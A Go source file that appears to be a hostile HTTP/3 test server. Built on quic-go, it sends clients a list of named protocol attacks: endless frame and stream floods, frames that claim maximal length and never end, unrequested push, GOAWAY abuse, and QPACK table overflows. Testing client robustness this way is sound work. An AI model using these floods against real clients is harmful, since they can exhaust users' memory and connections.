package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"strconv"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

// Frames, streams and settings of HTTP/3 (RFC 9114, 9204).
const (
	frameData        = 0x0
	frameHeaders     = 0x1
	frameSettings    = 0x4
	framePushPromise = 0x5
	frameGoAway      = 0x7
	frameUnknown     = 0x21
	streamControl    = 0x0
	streamEncoder    = 0x2
	streamUnknown    = 0x21
	// endlessLength is the largest that a frame can say it has.
	endlessLength = 1<<62 - 1
	errorInternal = 0x102
	errorNone     = 0x100
)

var onlyHTTP3 = []attack{
	{name: "empty-data", does: "an endless series of empty DATA frames", h3: func(e *exchange3) error {
		return forever(e.head(200), func() error { return e.frame(e.stream, frameData, nil) })
	}},
	{name: "unknown-flood", does: "an endless series of frames of an unknown type", h3: func(e *exchange3) error {
		return forever(nil, func() error { return e.frame(e.stream, frameUnknown, part) })
	}},
	{name: "endless-unknown", does: "a frame of an unknown type that never ends", h3: func(e *exchange3) error {
		err := e.begin(e.stream, frameUnknown, endlessLength)
		return forever(err, func() error { return e.raw(part) })
	}},
	{name: "settings-flood", does: "an endless series of SETTINGS frames", h3: func(e *exchange3) error {
		return forever(nil, func() error { return e.frame(e.control, frameSettings, nil) })
	}},
	{name: "endless-settings", does: "a SETTINGS frame that never ends", h3: func(e *exchange3) error {
		err := e.begin(e.control, frameSettings, endlessLength)
		return forever(err, func() error { _, err := e.control.Write(part); return err })
	}},
	{name: "stream-flood", does: "an endless series of streams of an unknown type, each reset immediately", h3: func(e *exchange3) error {
		return forever(nil, func() error {
			stream, err := e.conn.OpenUniStreamSync(e.conn.Context())
			if err != nil {
				return err
			}
			_, _ = stream.Write([]byte{streamUnknown})
			stream.CancelWrite(errorInternal)
			return nil
		})
	}},
	{name: "stream-data", does: "a stream of an unknown type that never ends", h3: func(e *exchange3) error {
		stream, err := e.uni(streamUnknown)
		return forever(err, func() error { _, err := stream.Write(part); return err })
	}},
	{name: "second-control", does: "a second control stream", h3: func(e *exchange3) error {
		_, err := e.uni(streamControl)
		return errors.Join(err, e.wait())
	}},
	{name: "control-closed", does: "the control stream closes", h3: func(e *exchange3) error {
		return errors.Join(e.control.Close(), e.wait())
	}},
	{name: "push", does: "a PUSH_PROMISE that the client did not allow", h3: func(e *exchange3) error {
		return errors.Join(e.frame(e.stream, framePushPromise, append([]byte{0}, section(field{":method", "GET"})...)), e.wait())
	}},
	{name: "goaway", does: "GOAWAY that rejects every request as not processed", h3: func(e *exchange3) error {
		return errors.Join(e.frame(e.control, frameGoAway, []byte{0}), e.wait())
	}},
	{name: "goaway-flood", does: "an endless series of GOAWAY frames", h3: func(e *exchange3) error {
		return forever(nil, func() error { return e.frame(e.control, frameGoAway, []byte{0}) })
	}},
	{name: "qpack-blocked", does: "a header that needs a QPACK table entry that never arrives", h3: func(e *exchange3) error {
		return errors.Join(e.frame(e.stream, frameHeaders, []byte{0x02, 0x00, 0x80}), e.wait())
	}},
	{name: "qpack-table", does: "a QPACK table larger than the client allows", h3: func(e *exchange3) error {
		stream, err := e.uni(streamEncoder)
		if err == nil {
			_, err = stream.Write([]byte{0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07})
		}
		return errors.Join(err, e.wait())
	}},
	{name: "qpack-inserts", does: "an endless series of QPACK table entries", h3: func(e *exchange3) error {
		stream, err := e.uni(streamEncoder)
		insert := append([]byte{0x46}, "x-fill\x7f\x00"...)
		insert = append(insert, bytes.Repeat([]byte{'x'}, 127)...)
		return forever(err, func() error { _, err := stream.Write(insert); return err })
	}},
	{name: "qpack-endless-entry", does: "a QPACK table entry whose name never ends", h3: func(e *exchange3) error {
		stream, err := e.uni(streamEncoder)
		if err == nil {
			_, err = stream.Write([]byte{0x5f, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f})
		}
		return forever(err, func() error { _, err := stream.Write(letters); return err })
	}},
	{name: "window-one", does: "a window of one byte for the request's body", upload: true,
		quic: func(config *quic.Config) {
			// None of what it lets in is read, so it stays closed.
			config.InitialStreamReceiveWindow, config.MaxStreamReceiveWindow = 1, 1
		}, h3: func(e *exchange3) error { return e.wait() }},
}

// exchange3 is a request on an HTTP/3 connection.
type exchange3 struct {
	conn    *quic.Conn
	control *quic.SendStream
	stream  *quic.Stream
}

// http3Connection answers the requests of one connection.
func http3Connection(conn *quic.Conn, a *attack) {
	control, err := conn.OpenUniStream()
	if err != nil {
		return
	}
	if _, err := control.Write([]byte{streamControl, frameSettings, 0}); err != nil {
		return
	}
	for {
		stream, err := conn.AcceptStream(conn.Context())
		if err != nil {
			return
		}
		e := &exchange3{conn, control, stream}
		go func() {
			if !a.upload {
				_, _ = io.Copy(io.Discard, stream)
			}
			if a.h3 != nil {
				_ = a.h3(e)
			} else {
				_ = a.any(e)
			}
		}()
	}
}

// section encodes fields without a table.
func section(fields ...field) []byte {
	var encoded bytes.Buffer
	encoder := qpack.NewEncoder(&encoded)
	for _, f := range fields {
		_ = encoder.WriteField(qpack.HeaderField{Name: f.name, Value: f.value})
	}
	return encoded.Bytes()
}

func (e *exchange3) begin(stream io.Writer, kind, length uint64) error {
	_, err := stream.Write(quicvarint.Append(quicvarint.Append(nil, kind), length))
	return err
}

func (e *exchange3) frame(stream io.Writer, kind uint64, payload []byte) error {
	_, err := stream.Write(append(quicvarint.Append(quicvarint.Append(nil, kind), uint64(len(payload))), payload...))
	return err
}

// uni opens a stream of a type.
func (e *exchange3) uni(kind byte) (*quic.SendStream, error) {
	stream, err := e.conn.OpenUniStream()
	if err == nil {
		_, err = stream.Write([]byte{kind})
	}
	return stream, err
}

func (e *exchange3) head(status int, fields ...field) error {
	first := field{":status", strconv.Itoa(status)}
	return e.frame(e.stream, frameHeaders, section(append([]field{first}, fields...)...))
}

func (e *exchange3) open(status int) error {
	first := filler
	if status != 0 {
		first = field{":status", strconv.Itoa(status)}
	}
	return errors.Join(e.begin(e.stream, frameHeaders, endlessLength), e.raw(section(first)))
}

// more leaves out the prefix of a section, of two bytes: only the first fields have it.
func (e *exchange3) more(fields ...field) error { return e.raw(section(fields...)[2:]) }

func (e *exchange3) write(part []byte) error { return e.frame(e.stream, frameData, part) }

func (e *exchange3) end() error { return e.stream.Close() }

func (e *exchange3) reset() error {
	e.stream.CancelWrite(errorInternal)
	return nil
}

// hangUp lets what was written leave first: quic-go drops it with the connection.
func (e *exchange3) hangUp() error {
	time.Sleep(100 * time.Millisecond)
	_ = e.conn.CloseWithError(errorNone, "")
	return net.ErrClosed
}

func (e *exchange3) raw(data []byte) error {
	_, err := e.stream.Write(data)
	return err
}

func (e *exchange3) wait() error {
	<-e.conn.Context().Done()
	return context.Cause(e.conn.Context())
}

func pause() { time.Sleep(10 * time.Millisecond) }
